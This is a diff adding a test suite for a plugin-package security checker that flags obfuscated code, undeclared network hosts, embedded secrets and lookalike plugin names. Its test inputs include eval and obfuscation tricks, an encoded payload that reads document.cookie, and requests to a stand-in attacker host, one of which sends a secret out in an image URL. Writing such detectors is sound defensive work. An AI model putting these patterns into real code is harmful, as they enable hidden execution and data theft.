@@ -1,0 +1,221 @@
+import { existsSync, readdirSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import type { CheckFinding, CheckVerdict } from './CheckVerdict';
+import { checkPackage } from './checkPackage';
+
+const MANIFESTS = '/work/shared/data/manifests';
+
+const encode = (value: unknown) => new TextEncoder().encode(typeof value === 'string' ? value : JSON.stringify(value));
+
+function verdictsOf(value: unknown, names: string[] = [], popular: string[] = []): CheckVerdict[] {
+  const plugins = popular.map((name) => ({ plugin_key: 'theirs', names: [name] }));
+  return [...checkPackage({ bytes: encode(value), names, popular: plugins })];
+}
+
+const findingsOf = (check: string, value: unknown): CheckFinding[] =>
+  verdictsOf(value).find((verdict) => verdict.check === check)?.findings ?? [];
+const rulesOf = (check: string, value: unknown) => findingsOf(check, value).map(({ rule }) => rule);
+const failedOf = (value: unknown) =>
+  verdictsOf(value)
+    .filter(({ state }) => state !== 'passed')
+    .map(({ check }) => check);
+
+it('passes an honest plugin in all seven', () => {
+  const honest = {
+    name: 'Grid Maker',
+    version: '1.0.0',
+    main: 'const address = "https://api.example.com/v1";\nfetch(address + "/grids").then((answer) => answer.json());',
+    ui: '<a href="https://help.example.org">Help</a><script>parent.postMessage({ password: "Password" }, "*")</script>',
+    network_access: { allowed_domains: ['*.example.com'] },
+  };
+  const verdicts = verdictsOf(honest, ['Grid Maker'], ['Icons']);
+  expect(verdicts.map(({ state }) => state)).toEqual(Array(7).fill('passed'));
+});
+
+it('tells faults of the file as its own checks, and says nothing of content that it could not read', () => {
+  const states = (value: unknown) => Object.fromEntries(verdictsOf(value).map(({ check, state }) => [check, state]));
+  expect(states({ main: 'a'.repeat(5 * 1024 * 1024) })).toEqual({
+    size: 'failed',
+    depth: 'passed',
+    schema: 'passed',
+    name: 'passed',
+  });
+  expect(states(`{"main":"x","menu":${'['.repeat(64)}${']'.repeat(64)}}`)).toMatchObject({ depth: 'failed' });
+  expect(states({ name: 'x' })).toEqual({ size: 'passed', depth: 'passed', schema: 'failed', name: 'passed' });
+});
+
+describe('code', () => {
+  it.each([
+    ['eval', 'const x = 1;\neval("x + 1");', 'eval'],
+    ['eval by another way', '(0, eval)(text)', 'eval'],
+    ['eval of the window', 'window["eval"](text)', 'eval'],
+    ['a function of text', 'new Function("a", body)(1)', 'function_constructor'],
+    ['a function of text by its constructor', '(function(){}).constructor(text)()', 'function_constructor'],
+    [
+      'a function of text by a constructor of a constructor',
+      '[].map.constructor.constructor("alert(1)")()',
+      'function_constructor',
+    ],
+    ['a timer with text', 'setTimeout("run()", 10)', 'string_timer'],
+    ['a script that is put in', 'function f(){var s=document.createElement("script");s.src=u;}', 'script_insertion'],
+    ['a script that is written', 'document.write("<script src=" + u + ">")', 'script_insertion'],
+    ['scripts of a worker', 'importScripts(u)', 'script_insertion'],
+    [
+      'names of an obfuscator',
+      Array.from({ length: 12 }, (_, n) => `var _0x4f3a0${n.toString(16)}=1;`).join(''),
+      'hex_names',
+    ],
+    ['letters as escapes', `x="${'\\x61\\x6c'.repeat(20)}"`, 'escaped_text'],
+    ['signs alone', `x=${'[!![]+[]][+[]]+'.repeat(60)}1`, 'symbols_only'],
+    ['a table of codes', `x=[${Array(120).fill(101)}];y=String.fromCharCode.apply(null,x)`, 'character_codes'],
+    ['hidden code', `run(atob("${btoa('function f() { return document.cookie } '.repeat(10))}"))`, 'hidden_code'],
+    ['no JavaScript', 'let x: number = 1;', 'not_javascript'],
+  ])('finds %s', (_what, main, rule) => {
+    expect(rulesOf('code', { main })).toContain(rule);
+  });
+
+  it('names the line in the code, and in the page that a script stands in', () => {
+    expect(findingsOf('code', { main: 'a();\nb();\n  eval(c);' })).toMatchObject([
+      { path: 'main', line: 3, column: 3 },
+    ]);
+    const ui = { start: '<p>\n<script>a();\n eval(b)</script>', help: '<b onclick="eval(c)">?</b>' };
+    expect(findingsOf('code', { main: 'x', ui })).toMatchObject([
+      { path: 'ui.start', line: 3, column: 2, rule: 'eval' },
+      { path: 'ui.help', line: 1, rule: 'eval' },
+    ]);
+  });
+
+  it.each([
+    ['asking for the global object', 'var g = Function("return this")();'],
+    ['an own method of that name', 'parser.eval; x = { eval() {} }; typeof eval'],
+    ['a picture that is put in', 'var i = document.createElement("img"); i.src = u;'],
+    ['a module', 'import a from "./a"; export default await a();'],
+    ['pictures as texts', `img("${btoa('\u0000\u0001PNG'.repeat(200))}"); atob(x)`],
+    ['data that stands in a page', ''],
+  ])('takes %s for nothing bad', (_what, main) => {
+    const ui = '<script type="application/json">{"eval": "eval(1)"}</script>';
+    expect(rulesOf('code', { main: main || 'x', ui })).toEqual([]);
+  });
+
+  // Bundles of packages that the project has anyway: minified, and not obfuscated.
+  it.each(['react-dom/cjs/react-dom-client.production.js', 'tus-js-client/dist/tus.min.js', 'dayjs/dayjs.min.js'])(
+    'takes %s for nothing bad',
+    (file) => {
+      expect(rulesOf('code', { main: readFileSync(`node_modules/${file}`, 'utf8') })).toEqual([]);
+    },
+  );
+});
+
+describe('network', () => {
+  const declared = { network_access: { allowed_domains: ['api.example.com', '*.cdn.example.com', 'localhost:3000'] } };
+
+  it.each([
+    ['fetch("https://evil.example/x")', 'evil.example'],
+    [`window.fetch(\`wss://evil.example/\${id}\`)`, 'evil.example'],
+    ['new WebSocket("wss://evil.example:8443/")', 'evil.example:8443'],
+    ['new EventSource("//evil.example/events")', 'evil.example'],
+    ['request.open("POST", "https://evil.example/" + id)', 'evil.example'],
+    ['const HOST = "https://evil.example";\nfetch(HOST + "/x")', 'evil.example'],
+    ['import("https://evil.example/x.js")', 'evil.example'],
+    ['image.src = "https://evil.example/pixel.gif?" + secret', 'evil.example'],
+    ['link.setAttribute("href", "https://evil.example/")', 'evil.example'],
+    ['fetch("https://api.example.com.evil.example/")', 'api.example.com.evil.example'],
+    ['fetch("https://api.example.com@evil.example/")', 'evil.example'],
+    ['fetch("https://cdn.example.com/")', 'cdn.example.com'],
+    ['fetch("http://localhost:4000/")', 'localhost:4000'],
+  ])('finds %s', (main, host) => {
+    expect(findingsOf('network', { main, ...declared })).toMatchObject([{ rule: 'undeclared_host', params: { host } }]);
+  });
+
+  it('lets declared hosts, own files and mere names pass', () => {
+    const main = `fetch("https://api.example.com/x"); fetch("https://eu.cdn.example.com"); fetch("/x"); fetch(unknown);
+      fetch("http://localhost:3000/"); document.createElementNS("http://www.w3.org/2000/svg", "path");
+      image.src = "data:image/png;base64,AAAA"; throw Error("See https://react.dev/errors/1");`;
+    expect(findingsOf('network', { main, ...declared })).toEqual([]);
+    expect(
+      findingsOf('network', { main: 'fetch("https://a.example")', network_access: { allowed_domains: ['*'] } }),
+    ).toEqual([]);
+  });
+
+  it('looks into pages and their styles', () => {
+    const ui = `<link rel="stylesheet" href="https://fonts.example.net/a.css">
+<style>@import "https://styles.example.net/b.css"; p { background: url(//pictures.example.net/c.png) }</style>
+<img srcset="https://images.example.net/d.png 2x"><a href="https://help.example.net">Help</a>`;
+    expect(findingsOf('network', { main: 'x', ui }).map(({ params, line }) => [line, params.host])).toEqual([
+      [1, 'fonts.example.net'],
+      [2, 'styles.example.net'],
+      [2, 'pictures.example.net'],
+      [3, 'images.example.net'],
+    ]);
+  });
+});
+
+describe('secrets', () => {
+  const token = (kind: string, length: number) => kind + 'a1B2'.repeat(length).slice(0, length);
+
+  it.each([
+    ['private_key', '-----BEGIN RSA PRIVATE KEY-----'],
+    ['github', token('ghp_', 36)],
+    ['aws', `AKIA${'Q7'.repeat(8)}`],
+    ['google', token('AIza', 35)],
+    ['slack', token('xoxb-', 24)],
+    ['figma', token('figd_', 40)],
+  ])('finds a secret of %s wherever it stands, and never tells it', (kind, secret) => {
+    for (const value of [
+      { main: `call("${secret}")` },
+      { main: 'x', ui: `<p>${secret}</p>` },
+      { main: 'x', note: secret },
+    ]) {
+      const findings = findingsOf('secrets', value);
+      expect(findings).toMatchObject([{ rule: 'known_secret', params: { kind } }]);
+      expect(JSON.stringify(findings)).not.toContain(secret);
+    }
+  });
+
+  it('finds passwords that are assigned, and no labels of forms', () => {
+    const main = `const apiKey = "b7d0c9e2f1a44c3e"; login({ password: "Tr0ub4dor&3" });
+      const labels = { password: "Enter your password", secret: "input-secret", api_key: "" };`;
+    expect(findingsOf('secrets', { main }).map(({ params }) => params.name)).toEqual(['apiKey', 'password']);
+  });
+});
+
+describe('name', () => {
+  const close = (name: string, popular: string) =>
+    verdictsOf({ main: 'x' }, [name], [popular]).find(({ check }) => check === 'name')?.state;
+
+  it.each([
+    ['iconify', 'Iconify'],
+    ['I c o n i f y', 'Iconify'],
+    ['Iсоnіfу', 'Iconify'],
+    ['lconify', 'Iconify'],
+    ['Iconnify', 'Iconify'],
+    ['Icnoify', 'Iconify'],
+    ['Iconif', 'Iconify'],
+    ['Ｉｃｏｎｉｆｙ', 'Iconify'],
+    ['Icônify!', 'Iconify'],
+    ['图标 库', '图标库'],
+  ])('takes %s for %s', (name, popular) => expect(close(name, popular)).toBe('failed'));
+
+  it.each([
+    ['Icons', 'Iconify'],
+    ['Grids', 'Grid'],
+    ['图标夹', '图标库'],
+    ['Iconify for teams', 'Iconify'],
+    ['!!!', '???'],
+  ])('lets %s stand beside %s', (name, popular) => expect(close(name, popular)).toBe('passed'));
+});
+
+it('says one thing once, and not more than twenty', () => {
+  const main = Array.from({ length: 60 }, (_, n) => `fetch("https://h${n % 40}.example");`).join('\n');
+  expect(findingsOf('network', { main })).toHaveLength(20);
+  expect(findingsOf('code', { main: 'eval(a);eval(b)' })).toHaveLength(1);
+});
+
+const manifests = existsSync(MANIFESTS) ? readdirSync(MANIFESTS) : [];
+if (manifests.length === 0) console.warn(`Skipped: ${MANIFESTS} is not there, real manifests are not checked.`);
+(manifests.length > 0 ? it : it.skip)('finds nothing in real manifests of other design tools', () => {
+  for (const file of manifests) {
+    const value = readFileSync(join(MANIFESTS, file), 'utf8');
+    expect([file, failedOf(value)]).toEqual([file, []]);
+  }
+});
